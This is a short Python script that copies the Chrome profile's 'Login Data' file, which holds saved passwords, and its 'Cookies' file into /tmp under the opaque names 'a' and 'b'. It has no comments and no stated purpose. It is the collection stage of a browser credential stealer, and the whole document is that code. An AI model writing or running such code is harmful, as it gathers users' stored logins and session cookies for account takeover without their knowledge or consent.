import os
import shutil

profile = os.path.expanduser("~/.config/google-chrome/Default")
shutil.copy(os.path.join(profile, "Login Data"), "/tmp/a")
shutil.copy(os.path.join(profile, "Cookies"), "/tmp/b")
